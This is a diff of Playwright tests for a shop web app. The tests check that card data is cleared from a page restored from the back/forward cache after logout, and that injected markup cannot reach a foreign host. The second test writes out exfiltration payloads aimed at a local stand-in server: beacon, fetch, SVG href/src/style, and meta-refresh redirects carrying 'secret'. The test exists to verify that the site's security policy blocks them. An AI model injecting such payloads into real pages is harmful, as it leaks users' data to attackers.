@@ -3,7 +3,9 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { beforeRecharge, rechargesOf } from './ordering.ts'
 import { atProvider } from './provider.ts'
-import { expect, login, open, test } from './shop.ts'
+import { chromium } from '@playwright/test'
+import { chromiumOptions } from '../chromium.ts'
+import { expect, login, open, test, url } from './shop.ts'
 
 test('the network comes and goes while somebody orders: one order a tap, and the page is there again at once', async ({ page, context, noise }) => {
   noise.ignore(/Failed to load resource|net::ERR/)
@@ -28,10 +30,15 @@ test('the network comes and goes while somebody orders: one order a tap, and the
   expect(reports).toBeLessThanOrEqual(10)
 })
 
-test('back to a page of a card after logging out elsewhere: nothing of the card is left on it', async ({ page, context }) => {
+test('back to a page of a card that the browser had frozen, after logging out elsewhere: nothing of the card is left on it', async ({ contextOptions }) => {
+  // Playwright switches the back/forward cache off
+  const browser = await chromium.launch({ ...chromiumOptions(), ignoreDefaultArgs: ['--disable-back-forward-cache'] })
+  const context = await browser.newContext(contextOptions)
+  const page = await context.newPage()
+  await page.addInitScript(() => addEventListener('pageshow', ({ persisted }) => Object.assign(window, { persisted })))
   await login(page, '1440000000001')
   await expect(page.getByText('1440 **** 0001').first()).toBeVisible()
-  await page.goto('about:blank')
+  await page.goto(`${url()}/healthz`)
   const other = await context.newPage()
   await open(other, '/')
   await other.evaluate(() => {
@@ -41,10 +48,12 @@ test('back to a page of a card after logging out elsewhere: nothing of the card 
   await page.goBack()
   await expect(page).toHaveURL(/iot\/login/)
   await expect(page.getByText('1440 **** 0001')).toHaveCount(0)
+  expect(await page.evaluate(() => (window as Window & { persisted?: boolean }).persisted), 'it came frozen, not loaded').toBe(true)
+  await browser.close()
 })
 
 test('markup that got into the page sends nothing to a foreign host', async ({ page, noise }) => {
-  noise.ignore(/CSP|Trusted|Content Security Policy|Refused|violates|Failed to load|preload/i)
+  noise.ignore(/CSP|Trusted|Content Security Policy|Refused|violates|Unsafe attempt|Failed to load|preload/i)
   const heard: string[] = []
   const foreign = createServer((request, response) => {
     heard.push(request.url ?? '')
@@ -78,8 +87,31 @@ test('markup that got into the page sends nothing to a foreign host', async ({ p
     form.submit()
     void fetch(`${away}/fetch`, { mode: 'no-cors' }).catch(() => undefined)
     navigator.sendBeacon(`${away}/beacon`, 'secret')
+    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
+    for (const tag of ['image', 'use', 'feImage', 'script', 'foreignObject', 'a', 'animate', 'filter']) {
+      const element = document.createElementNS('http://www.w3.org/2000/svg', tag)
+      for (const name of ['href', 'src', 'style', 'attributeName', 'fill', 'filter'])
+        try {
+          element.setAttribute(name, /href|src/.test(name) ? `${away}/svg-${tag}#x` : `url(${away}/svg-${tag}-${name}#x)`)
+        } catch {
+          // the same
+        }
+      svg.append(element)
+    }
+    document.body.append(svg)
   }, host)
   await page.waitForTimeout(1500)
-  foreign.close()
   expect(heard).toEqual([])
+
+  // what leads the page itself away
+  await page.evaluate((away) => {
+    for (const content of [`0;url=${away}/refresh?secret`, `1; ${away}/refresh-later`])
+      document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content }))
+  }, host)
+  await page.waitForTimeout(2000)
+  expect(heard).toEqual([])
+  expect(new URL(page.url()).origin).toBe(url())
+  // and the page is none the worse for it (Playwright's own locators wait for the navigation that was held back)
+  expect(await page.evaluate(() => document.querySelectorAll('[role="feed"] button').length)).toBeGreaterThan(0)
+  foreign.close()
 })
